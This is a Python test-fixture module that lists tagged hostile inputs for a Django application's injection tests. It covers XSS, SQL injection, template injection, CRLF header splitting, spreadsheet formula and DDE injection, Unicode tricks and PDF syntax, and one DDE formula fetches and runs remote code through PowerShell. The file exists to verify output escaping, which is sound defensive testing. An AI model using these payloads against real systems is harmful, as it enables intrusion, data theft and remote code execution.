"""Hostile inputs for the injection tests (test_injection.py), one list for every sink.

Each payload carries a unique tag (`pNN`), so a test can tell that *this* payload reached a
page, a PDF, a spreadsheet or an SMS, and not some other text. `danger` lists what must
never come out raw: the bytes that would run as markup, close an attribute, start a
formula or split a header. A sink passes when the tag is there (the input arrived) and no
`danger` is (it arrived inert).
"""

from __future__ import annotations

from dataclasses import dataclass

from django.utils.html import escape


@dataclass(frozen=True)
class Payload:
    name: str
    text: str
    danger: tuple[str, ...] = ()
    """Raw substrings that must not appear in an HTML page."""
    kinds: frozenset[str] = frozenset()

    @property
    def tag(self) -> str:
        """`p07`; a number payload has none in its text (it would stop being a number)."""
        tag = self.name.split("-", 1)[0]
        return tag if tag in self.text else self.text[:20]

    @property
    def escaped_danger(self) -> tuple[str, ...]:
        """How each `danger` reads once escaped: what a page shows instead."""
        return tuple(escape(d) for d in self.danger)

    @property
    def is_formula(self) -> bool:
        return "formula" in self.kinds


XSS, SQL, TEMPLATE, HEADER, FORMULA, UNICODE, LONG, PDF, NUMBER = (
    "xss",
    "sql",
    "template",
    "header",
    "formula",
    "unicode",
    "long",
    "pdf",
    "number",
)


def _p(name: str, text: str, *danger: str, kinds: tuple[str, ...] = ()) -> Payload:
    return Payload(name=name, text=text, danger=danger, kinds=frozenset(kinds))


PAYLOADS: tuple[Payload, ...] = (
    # --- Markup and script (XSS) ---
    _p("p01-script", '<script>alert("p01")</script>', "<script>", kinds=(XSS,)),
    _p("p02-img-onerror", "<img src=x onerror=alert('p02')>", "<img ", kinds=(XSS,)),
    _p("p03-svg-onload", "<svg/onload=alert('p03')>", "<svg", kinds=(XSS,)),
    _p(
        "p04-attr-double",
        'p04" autofocus onfocus="alert(1)" x="',
        '" autofocus onfocus="',
        kinds=(XSS,),
    ),
    _p("p05-attr-single", "p05' onmouseover='alert(1)' x='", "' onmouseover='", kinds=(XSS,)),
    _p("p06-attr-close", '"><script>alert("p06")</script>', '"><script>', kinds=(XSS,)),
    _p("p07-javascript-url", "javascript:alert('p07')//", 'href="javascript:', kinds=(XSS,)),
    _p(
        "p08-textarea-close",
        "</textarea><script>alert('p08')</script>",
        "</textarea><script>",
        kinds=(XSS,),
    ),
    _p(
        "p09-title-close",
        "</title><style>*{display:none}</style>p09",
        "</title><style>",
        kinds=(XSS,),
    ),
    _p("p10-entity", "&lt;b&gt;p10&lt;/b&gt; &amp; &#60;i&#62;", "&lt;b&gt;p10", kinds=(XSS,)),
    _p(
        "p11-iframe-srcdoc",
        '<iframe srcdoc="<script>parent.alert(1)</script>">p11',
        "<iframe",
        kinds=(XSS,),
    ),
    _p(
        "p12-data-url",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== p12",
        kinds=(XSS,),
    ),
    _p(
        "p13-json-break",
        'p13"}]}</script><script>alert(1)</script>\u2028\u2029',
        "</script><script>",
        kinds=(XSS, UNICODE),
    ),
    # --- SQL ---
    _p("p14-sql-or", "p14' OR 1=1 --", kinds=(SQL,)),
    _p("p15-sql-drop", 'p15"; DROP TABLE dossiers_dossier; --', kinds=(SQL,)),
    _p("p16-sql-union", "p16' UNION SELECT password FROM accounts_user --", kinds=(SQL,)),
    _p("p17-sql-like", "p17%_\\%' ESCAPE '\\", kinds=(SQL,)),
    # --- Templates (Django, Jinja, Python format strings) ---
    _p("p18-django-var", "p18 {{ 7*7 }} {{ request.user.password }}", kinds=(TEMPLATE,)),
    _p(
        "p19-django-tag",
        "p19 {% debug %} {% load log %}{% get_admin_log 10 as x %}",
        kinds=(TEMPLATE,),
    ),
    _p(
        "p20-jinja",
        "p20 ${7*7} #{7*7} {{config.__class__.__init__.__globals__}}",
        kinds=(TEMPLATE,),
    ),
    _p("p21-format", "p21 %s %(ref)s %n {0.__class__} {ref}", kinds=(TEMPLATE,)),
    # --- Headers (CRLF) ---
    _p("p22-crlf", "p22\r\nSet-Cookie: pwned=1\r\n\r\n<b>x</b>", "<b>x</b>", kinds=(HEADER, XSS)),
    _p("p23-crlf-encoded", "p23%0d%0aSet-Cookie:%20pwned=1", kinds=(HEADER,)),
    # --- Spreadsheet formulas (CSV injection) ---
    _p(
        "p24-formula-hyperlink",
        '=HYPERLINK("http://exemple.invalid/?p24="&A1,"Cliquez")',
        kinds=(FORMULA,),
    ),
    _p("p25-formula-plus", "+cmd|' /C calc'!A0 p25", kinds=(FORMULA,)),
    _p("p26-formula-at", "@SUM(1+1)*cmd|' /C calc'!A0 p26", kinds=(FORMULA,)),
    _p("p27-formula-minus", "-2+3+cmd|' /C calc'!A0 p27", kinds=(FORMULA,)),
    _p("p28-formula-tab", "\t=1+1+p28", kinds=(FORMULA,)),
    _p("p29-formula-cr", "\r=1+1+p29", kinds=(FORMULA,)),
    _p("p30-formula-dde", "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0 p30", kinds=(FORMULA,)),
    # --- Unicode tricks ---
    _p("p31-rtl-override", "p31 Awa\u202egnp.exe", kinds=(UNICODE,)),
    _p("p32-zero-width", "p32 A\u200bw\u200ca\u200d\ufeff", kinds=(UNICODE,)),
    _p("p33-nul", "p33 Awa\x00<script>", "<script>", kinds=(UNICODE, XSS)),
    _p("p34-astral", "p34 \U0001d54f\U0001f600 ɛɔɲŋ", kinds=(UNICODE,)),
    # --- ReportLab markup and PDF syntax (the PDF analogue of XSS) ---
    _p(
        "p35-reportlab-markup",
        '<font color="red" size="40">p35</font><a href="http://exemple.invalid">ici</a>',
        "<font",
        kinds=(PDF, XSS),
    ),
    _p("p36-pdf-string", "p36) Tj ET BT /F1 99 Tf (pwn \\) /JavaScript", kinds=(PDF,)),
    # --- Length ---
    _p("p37-long", "p37 " + "A" * 5000 + "<script>", "<script>", kinds=(LONG, XSS)),
    _p("p38-long-word", "p38" + "\u00e9" * 300, kinds=(LONG, UNICODE)),
    # --- Numbers where a number is read (page numbers, counts): no tag, they are digits ---
    _p("p39-superscript-digits", "\u00b2\u00b3", kinds=(NUMBER, UNICODE)),
    _p("p40-huge-number", "9" * 5000, kinds=(NUMBER, LONG)),
    _p("p41-not-a-number", "-1e309", kinds=(NUMBER,)),
)

BY_NAME = {p.name: p for p in PAYLOADS}
